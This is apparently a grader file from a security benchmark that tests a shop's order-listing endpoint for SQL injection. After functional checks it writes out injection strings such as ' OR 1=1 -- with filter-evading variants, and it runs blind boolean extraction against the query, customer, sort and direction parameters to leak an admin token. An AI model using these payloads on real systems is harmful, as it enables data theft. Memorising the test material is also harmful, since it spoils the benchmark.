"""Do query parameters become SQL? The database also holds a secret and other customers' orders; an attack has worked
when the answers followed an expression over the secret, or showed an order of somebody who was not asked for."""

from __future__ import annotations

import re
import sqlite3
from collections.abc import Iterable

from weighbridge.tasks.oracle import App, Proof, Response, exploit, mark, works
from weighbridge.tasks.payloads import sql

DATABASE = "/srv/data/shop.db"
ORDERS = (
    (1, 1, "desk lamp", 25.5, "2024-03-02"),
    (2, 1, "office chair", 120.0, "2024-01-15"),
    (3, 2, "desk lamp", 27.0, "2024-02-20"),
    (4, 1, "floor lamp", 60.25, "2024-02-11"),
    (5, 1, "book shelf", 75.0, "2024-04-30"),
    (6, 3, "tea cup", 4.0, "2024-05-05"),
    (7, 3, "tea cup", 4.0, "2024-05-05"),
    (8, 3, "tea cup", 4.0, "2024-05-05"),
)


def label(nonce: str, number: int) -> str:
    """What an order's item ends with, to be known again in any answer."""
    return f"no{mark(nonce, f'order {number}')}"


def seed(nonce: str) -> dict[str, bytes | None]:
    with sqlite3.connect(":memory:") as base:
        base.execute(
            "CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER, item TEXT, price REAL, day TEXT)"
        )
        base.execute("CREATE TABLE accounts (id INTEGER PRIMARY KEY, name TEXT, token TEXT)")
        for number, customer, item, price, day in ORDERS:
            row = (number, customer, f"{item} {label(nonce, number)}", price, day)
            base.execute("INSERT INTO orders VALUES (?, ?, ?, ?, ?)", row)
        base.execute("INSERT INTO accounts VALUES (1, 'admin', ?)", (nonce,))
        base.commit()
        return {DATABASE: base.serialize()}


def shown(app: App, answer: Response) -> list[int]:
    """The orders that an answer shows, in its order."""
    numbers = {label(app.nonce, number): number for number, *_ in ORDERS}
    return [numbers[found] for found in re.findall(r"no[0-9a-f]{12}", answer.text) if found in numbers]


def functional(app: App) -> None:
    def expect(what: str, *allowed: list[int], **query: str) -> None:
        answer = app.get("/orders", query=query)
        works(answer.ok, f"{what}: a status of 2xx, not {answer.status}")
        listed = answer.json()
        works(isinstance(listed, list), f"{what}: a JSON list")
        keys = {"id", "item", "price", "day"}
        works(all(isinstance(row, dict) and keys <= row.keys() for row in listed), f"{what}: objects with {keys}")
        works(shown(app, answer) in allowed, f"{what}: the orders {allowed[0]}, not {shown(app, answer)}")

    expect("orders of a customer, by id", [1, 2, 4, 5], customer="1")
    expect("orders of another customer", [3], customer="2")
    expect("orders that contain a text", [1, 4], customer="1", q="lamp")
    expect("a text that no order contains", [], customer="1", q="piano")
    expect("sorted by price", [1, 4, 5, 2], customer="1", sort="price")
    expect("sorted by day, descending", [5, 1, 4, 2], customer="1", sort="day", dir="desc")
    expect("sorted by item, with a text", [1, 4], customer="1", q="lamp", sort="item", dir="asc")


def _follows(app: App, parameter: str, templates: Iterable[str], **others: str) -> Proof | None:
    """Whether what the program shows follows an expression over the secret, for every one of three characters."""
    for template in templates:
        for spelling in range(4):
            told: set[tuple[tuple[int, ...], tuple[int, ...]]] = set()
            for pair in sql.pairs(template, app.nonce):
                texts = list(sql.spelled(pair))[spelling]
                answers = [app.get("/orders", query={**others, parameter: text}) for text in texts]
                told.add((tuple(shown(app, answers[0])), tuple(shown(app, answers[1]))))
                if len(told) != 1 or told == {(tuple(shown(app, answers[1])),) * 2}:
                    break
            else:
                holds, fails = next(iter(told))
                return Proof(
                    89,
                    "; ".join(app.asked[-2:]),
                    f"the answer follows an expression over another table's secret: orders {list(holds)} where it "
                    f"holds, {list(fails)} where it does not; three characters of the secret were told so",
                )
    return None


@exploit(cwe=89)
def exploit_search_text(app: App) -> Proof | None:
    return _follows(app, "q", sql.in_text("lamp"), customer="1")


@exploit(cwe=89)
def exploit_search_text_shows_others(app: App) -> Proof | None:
    for text in ("' OR 1=1 -- ", "' OR '1'='1", "%' OR 1=1 OR '", "') OR 1=1 -- ", "'/**/OR/**/1=1/*", '" OR 1=1 -- '):
        for spelt in (text, text.replace("OR", "OORR"), text.replace("OR", "||0 OR"), text.replace(" ", "\t")):
            seen = shown(app, app.get("/orders", query={"customer": "2", "q": spelt}))
            if strangers := sorted(set(seen) - {3}):
                return Proof(89, app.asked[-1], f"orders {strangers} of other customers were shown")
    return None


@exploit(cwe=89)
def exploit_customer(app: App) -> Proof | None:
    return _follows(app, "customer", sql.in_number(1))


@exploit(cwe=89)
def exploit_sort_column(app: App) -> Proof | None:
    return _follows(app, "sort", [*sql.in_column("id"), *sql.in_column("price")], customer="1")


@exploit(cwe=89)
def exploit_sort_direction(app: App) -> Proof | None:
    for sort in ("price", "item"):
        if proof := _follows(app, "dir", sql.in_direction("id"), customer="3", sort=sort):
            return proof
    return None
